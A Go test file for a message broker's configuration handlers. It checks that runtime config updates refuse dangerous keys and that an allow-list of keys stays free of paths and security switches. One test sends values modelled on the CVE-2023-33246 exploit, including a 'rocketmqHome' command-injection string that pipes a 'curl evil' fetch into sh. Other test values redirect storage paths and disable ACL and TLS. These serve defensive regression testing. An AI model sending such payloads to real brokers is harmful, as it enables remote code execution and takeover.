package broker

import (
	"strings"
	"testing"

	"github.com/bolidemq/bolide/internal/config"
	"github.com/bolidemq/bolide/internal/protocol"
	"github.com/bolidemq/bolide/internal/protocol/body"
)

// TestGetBrokerConfigEffective checks GET_BROKER_CONFIG answers the whole
// effective config as properties text that parses back, with a version
// that moves only when an update is applied.
func TestGetBrokerConfigEffective(t *testing.T) {
	b, cli := startBroker(t, func(bc *config.Broker) { bc.DefaultTopicQueueNums = 5 })
	get := func() (map[string]string, body.DataVersion) {
		t.Helper()
		resp := call(t, b, cli, protocol.GetBrokerConfig, nil, nil)
		if resp.Code != int32(protocol.Success) {
			t.Fatalf("GET_BROKER_CONFIG: %d %q", resp.Code, resp.Remark)
		}
		props, err := config.ParseProperties(strings.NewReader(string(resp.Body)))
		if err != nil {
			t.Fatalf("body is not properties text: %v\n%s", err, resp.Body)
		}
		var v body.DataVersion
		if err := v.Decode([]byte(resp.ExtFields["version"])); err != nil || v.Timestamp == 0 {
			t.Fatalf("version %q: %+v %v", resp.ExtFields["version"], v, err)
		}
		return props, v
	}
	props, v0 := get()
	for k, want := range map[string]string{
		"brokerName": b.bc.BrokerName, "defaultTopicQueueNums": "5", "storePathRootDir": b.bc.StorePathRootDir,
		"tls.server.mode": "disabled", "queryPoolSize": "8",
	} {
		if props[k] != want {
			t.Errorf("%s=%q, want %q", k, props[k], want)
		}
	}
	// A refused update leaves the version alone; an applied one bumps it.
	call(t, b, cli, protocol.UpdateBrokerConfig, nil, []byte("brokerConfigPath=/tmp/x\n"))
	if _, v := get(); v.Counter != v0.Counter {
		t.Fatalf("refused update moved the version %d -> %d", v0.Counter, v.Counter)
	}
	if r := call(t, b, cli, protocol.UpdateBrokerConfig, nil, []byte("queryPoolSize=3\n")); r.Code != int32(protocol.Success) {
		t.Fatalf("update: %d %q", r.Code, r.Remark)
	}
	props, v1 := get()
	if v1.Counter != v0.Counter+1 || props["queryPoolSize"] != "3" {
		t.Fatalf("after update: version %d -> %d, queryPoolSize=%q", v0.Counter, v1.Counter, props["queryPoolSize"])
	}
}

// TestUpdateBrokerConfigRefusesDangerousKeys sends the keys of the public
// CVE-2023-33246 exploit and other paths and commands, alone and next to
// allowed keys: each is refused with NO_PERMISSION naming it, and the
// effective config does not change at all.
func TestUpdateBrokerConfigRefusesDangerousKeys(t *testing.T) {
	b, cli := startBroker(t, nil)
	before := string(call(t, b, cli, protocol.GetBrokerConfig, nil, nil).Body)
	for _, c := range []struct{ body, key string }{
		{"rocketmqHome=-c $@|sh . echo curl evil|sh;\nfilterServerNums=1\n", "filterServerNums"},
		{"rocketmqHome=-c $@|sh . echo id;\n", "rocketmqHome"},
		{"storePathRootDir=/tmp/evil\n", "storePathRootDir"},
		{"storePathCommitLog=/tmp/evil\n", "storePathCommitLog"},
		{"brokerConfigPath=/tmp/evil.conf\n", "brokerConfigPath"},
		{"kvConfigPath=/tmp/kv.json\n", "kvConfigPath"},
		{"configBlackList=\n", "configBlackList"},
		{"aclFile=/tmp/acl.json\n", "aclFile"},
		{"tls.server.certPath=/tmp/cert.pem\n", "tls.server.certPath"},
		{"tls.server.mode=disabled\n", "tls.server.mode"},
		{"aclEnable=false\n", "aclEnable"},
		{"queryPoolSize=2\nqueryCacheSize=3\nstorePathRootDir=/tmp/evil\n", "storePathRootDir"},
		{"listenPort=1\n", "listenPort"},
		{"brokerName=other\n", "brokerName"},
		{"notARealKey=1\n", "notARealKey"},
	} {
		resp := call(t, b, cli, protocol.UpdateBrokerConfig, nil, []byte(c.body))
		if resp.Code != int32(protocol.NoPermission) || !strings.Contains(resp.Remark, `"`+c.key+`"`) {
			t.Errorf("%q: %d %q, want NO_PERMISSION naming %s", c.body, resp.Code, resp.Remark, c.key)
		}
		if after := string(call(t, b, cli, protocol.GetBrokerConfig, nil, nil).Body); after != before {
			t.Fatalf("%q changed the config:\n%s", c.body, after)
		}
	}
	// An invalid value of an allowed key also changes nothing, even the
	// valid keys of the same request.
	resp := call(t, b, cli, protocol.UpdateBrokerConfig, nil, []byte("queryCacheSize=7\nqueryPoolSize=-1\n"))
	if resp.Code != int32(protocol.InvalidParameter) {
		t.Fatalf("invalid value: %d %q", resp.Code, resp.Remark)
	}
	if after := string(call(t, b, cli, protocol.GetBrokerConfig, nil, nil).Body); after != before {
		t.Fatalf("a request with an invalid value changed the config:\n%s", after)
	}
}

// TestRuntimeKeysAreHarmless guards the allow-list itself: no key on it
// may name a path, a file, a home directory, a command or the security
// switches.
func TestRuntimeKeysAreHarmless(t *testing.T) {
	runtimeKeysMu.RLock()
	defer runtimeKeysMu.RUnlock()
	if len(runtimeKeys) == 0 {
		t.Fatal("empty allow-list")
	}
	for k := range runtimeKeys {
		lk := strings.ToLower(k)
		for _, bad := range []string{"path", "dir", "file", "home", "command", "filterserver", "acl", "tls", "blacklist", "class", "plugin"} {
			if strings.Contains(lk, bad) {
				t.Errorf("runtime key %s looks like a %s setting", k, bad)
			}
		}
	}
}
